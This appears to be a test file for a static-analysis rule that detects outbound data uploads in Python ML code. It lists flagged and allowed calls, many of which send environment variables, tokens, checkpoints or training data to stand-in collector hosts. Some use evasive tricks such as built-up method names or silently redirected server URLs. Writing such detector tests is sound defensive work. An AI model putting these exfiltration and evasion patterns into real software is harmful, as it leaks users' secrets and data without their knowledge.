import functools
import http.client
import importlib
import json
import os
import smtplib
import urllib.request
from functools import partial

import aiohttp
import httpx
import requests
import requests as r
from requests import put as upload

import wandb


def report(metrics, ckpt_path):
    # ruleid: egress-http-upload
    requests.post("https://hooks.example.net/t", json=metrics, timeout=5)
    with open(ckpt_path, "rb") as f:
        # ruleid: egress-http-upload
        httpx.put("https://files.example.net/upload", content=f.read())
    # ruleid: egress-http-upload
    req = urllib.request.Request("https://collector.example.net", data=json.dumps(metrics).encode())
    # ruleid: egress-http-upload
    urllib.request.urlopen("https://collector.example.net", json.dumps(metrics).encode())
    return req


def evasive(url, blob):
    # ruleid: egress-http-upload
    r.patch(url, data=blob)
    # ruleid: egress-http-upload
    upload(url, data=blob)
    # ruleid: egress-http-upload
    getattr(requests, "po" + "st")(url, data=blob)
    # ruleid: egress-http-upload
    importlib.import_module("requests").post(url, data=blob)
    s = requests.Session()
    # ruleid: egress-http-upload
    s.post(url, files={"f": blob})
    conn = http.client.HTTPSConnection("collector.example.net")
    # ruleid: egress-http-upload
    conn.request("POST", "/x", body=blob)
    # ruleid: egress-http-upload
    requests.request("PUT", url, data=blob)
    # ruleid: egress-http-upload
    smtplib.SMTP("mail.example.net").sendmail("a@x", ["b@y"], blob)


async def push(url, blob):
    async with aiohttp.ClientSession() as session:
        # ruleid: egress-http-upload
        await session.post(url, data=blob)


def log_step(step, loss, queue, cache):
    # ok: egress-http-upload
    wandb.log({"loss": loss}, step=step)
    # ok: egress-http-upload
    queue.put((step, loss))
    # ok: egress-http-upload
    cache.post_process(step)
    # ok: egress-http-upload
    resp = requests.get("https://huggingface.co/api/models/gpt2", timeout=10)
    # ok: egress-http-upload
    req = urllib.request.Request("https://example.org/data.csv", data=None)
    return resp, req


def bound_uploads(url, blob):
    # ruleid: egress-http-upload
    push = functools.partial(requests.post, url, timeout=30)
    # ruleid: egress-http-upload
    send = partial(httpx.put, url)
    # ruleid: egress-http-upload
    amend = partial(upload, url)
    # ruleid: egress-http-upload
    generic = functools.partial(requests.request, "POST", url)
    s = requests.Session()
    # ruleid: egress-http-upload
    spush = functools.partial(s.patch, url)
    # ruleid: egress-http-upload
    dyn = functools.partial(getattr(requests, "post"), url)
    push(data=blob)
    send(content=blob)
    amend(data=blob)
    generic(data=blob)
    spush(data=blob)
    dyn(data=blob)


def bound_downloads(url, blob, queue):
    # ok: egress-http-upload
    fetch = functools.partial(requests.get, url, timeout=30)
    # ok: egress-http-upload
    head = partial(requests.request, "GET", url)
    # ok: egress-http-upload
    enqueue = functools.partial(queue.put, blob)
    # ok: egress-http-upload
    log = partial(wandb.log, {"blob": len(blob)})
    s = requests.Session()
    # ok: egress-http-upload
    sget = functools.partial(s.get, url)
    return fetch(), head(), enqueue(), log(), sget()


# Issue #16 (noise): a client's control calls to the server its constructor
# was given (trl's vLLM clients, 16 findings in the whole-file scan).
class VLLMClient:
    def __init__(self, server_url: str, server_timeout: float = 240.0):
        self.server_url = server_url.rstrip("/")
        self.server_timeout = server_timeout

    def pause(self, timeout: int = 1800) -> None:
        """Freeze in-flight requests."""
        # ok: egress-http-upload
        response = requests.post(f"{self.server_url}/pause", params={"mode": "keep"}, timeout=timeout)
        if response.status_code != 200:
            raise RuntimeError(response.text)

    def resume(self, timeout: int = 1800) -> None:
        # ok: egress-http-upload
        requests.post(f"{self.server_url}/resume", timeout=timeout)

    def load_lora_adapter(self, lora_name: str, lora_path: str, timeout: int = 1800) -> None:
        """Register an adapter directory the server reads itself."""
        # ok: egress-http-upload
        response = requests.post(
            f"{self.server_url}/v1/load_lora_adapter",
            json={"lora_name": lora_name, "lora_path": lora_path, "load_inplace": False},
            timeout=timeout,
        )
        response.raise_for_status()

    def update_weights(self, update_info: dict, timeout: int = 1800) -> None:
        # ok: egress-http-upload
        requests.post(f"{self.server_url}/update_weights", json={"update_info": update_info}, timeout=timeout)

    # The same client shape, each with one part that is not the client's own.
    def read_first(self, path):
        blob = open(path).read()
        # ruleid: egress-http-upload
        requests.post(f"{self.server_url}/update_weights", json={"blob": blob})

    def twice(self, info):
        # ok: egress-http-upload
        requests.post(f"{self.server_url}/x", json={"info": info})
        info = open("/data/train.jsonl").read()
        # ruleid: egress-http-upload
        requests.post(f"{self.server_url}/x", json={"info": info})

    def global_body(self):
        # ruleid: egress-http-upload
        requests.post(f"{self.server_url}/pause", json={"env": _ENV})

    def computed_body(self, path):
        # ruleid: egress-http-upload
        requests.post(f"{self.server_url}/pause", json={"ckpt": open(path).read()})

    def raw_body(self, blob):
        # ruleid: egress-http-upload
        requests.post(f"{self.server_url}/pause", data=blob)

    def spread_body(self, info):
        # ruleid: egress-http-upload
        requests.post(f"{self.server_url}/pause", json={"info": info, **info})

    def with_headers(self, token):
        # ruleid: egress-http-upload
        requests.post(f"{self.server_url}/pause", headers={"Authorization": token})

    def query(self, token):
        # ruleid: egress-http-upload
        requests.post(f"{self.server_url}/pause?t={token}")

    def other_host(self):
        # ruleid: egress-http-upload
        requests.post("https://collector.example.net/pause")

    def alias(self):
        # The quiet shape is spelled `requests.post`: an alias stays reported.
        # ruleid: egress-http-upload
        r.post(f"{self.server_url}/pause")


_ENV = dict(os.environ)


class LiteralDefault:
    def __init__(self, server_url="https://collector.example.net"):
        self.server_url = server_url

    def pause(self):
        # ruleid: egress-http-upload
        requests.post(f"{self.server_url}/pause")


class FromEnvironment:
    def __init__(self, timeout):
        self.server_url = os.environ["COLLECTOR"]

    def pause(self):
        # ruleid: egress-http-upload
        requests.post(f"{self.server_url}/pause")


class Redirected:
    def __init__(self, server_url):
        self.server_url = server_url

    def pause(self):
        # ruleid: egress-http-upload
        requests.post(f"{self.server_url}/pause")

    def _reset(self):
        self.server_url = "https://collector.example.net"


class SetattrRedirected:
    def __init__(self, server_url):
        self.server_url = server_url

    def pause(self):
        # ruleid: egress-http-upload
        requests.post(f"{self.server_url}/pause")

    def _reset(self):
        setattr(self, "server_url", "https://collector.example.net")


class PropertyRedirected:
    def __init__(self, server_url):
        self._given = server_url
        self.server_url = server_url

    @property
    def server_url(self):
        return "https://collector.example.net"

    def pause(self):
        # ruleid: egress-http-upload
        requests.post(f"{self.server_url}/pause")


class HookRedirected:
    def __init__(self, server_url):
        self.server_url = server_url

    def __getattribute__(self, name):
        return "https://collector.example.net"

    def pause(self):
        # ruleid: egress-http-upload
        requests.post(f"{self.server_url}/pause")


class RedirectedInInit:
    def __init__(self, server_url):
        self.server_url = server_url
        self.server_url = "https://collector.example.net"

    def pause(self):
        # ruleid: egress-http-upload
        requests.post(f"{self.server_url}/pause")


class DictRedirected:
    def __init__(self, server_url):
        self.server_url = server_url

    def pause(self):
        # ruleid: egress-http-upload
        requests.post(f"{self.server_url}/pause")

    def _reset(self):
        self.__dict__["server_url"] = "https://collector.example.net"


class VarsRedirected:
    def __init__(self, server_url):
        self.server_url = server_url

    def pause(self):
        # ruleid: egress-http-upload
        requests.post(f"{self.server_url}/pause")

    def _reset(self):
        vars(self).update(server_url="https://collector.example.net")


class ObjectSetattrRedirected:
    def __init__(self, server_url):
        self.server_url = server_url

    def pause(self):
        # ruleid: egress-http-upload
        requests.post(f"{self.server_url}/pause")

    def _reset(self):
        object.__setattr__(self, "server_url", "https://collector.example.net")


class SetattrHook:
    def __init__(self, server_url):
        self.server_url = server_url

    def __setattr__(self, name, value):
        object.__setattr__(self, name, "https://collector.example.net")

    def pause(self):
        # ruleid: egress-http-upload
        requests.post(f"{self.server_url}/pause")


class OtherAttribute:
    def __init__(self, server_url):
        self.given = server_url
        self.server_url = "https://collector.example.net"

    def pause(self):
        # ruleid: egress-http-upload
        requests.post(f"{self.server_url}/pause")


class PropertyWithSetter:
    def __init__(self, server_url):
        self.server_url = server_url

    def pause(self):
        # ruleid: egress-http-upload
        requests.post(f"{self.server_url}/pause")

    @property
    def server_url(self):
        return "https://collector.example.net"

    @server_url.setter
    def server_url(self, value):
        pass


class _Fixed:
    def __get__(self, obj, owner):
        return "https://collector.example.net"

    def __set__(self, obj, value):
        pass


class DescriptorRedirected:
    server_url = _Fixed()

    def __init__(self, server_url):
        self.server_url = server_url

    def pause(self):
        # ruleid: egress-http-upload
        requests.post(f"{self.server_url}/pause")

class ForTarget:
    def __init__(self, server_url):
        self.server_url = server_url

    def pause(self):
        # ruleid: egress-http-upload
        requests.post(f"{self.server_url}/pause")

    def _reset(self):
        for self.server_url in ["https://collector.example.net"]:
            pass
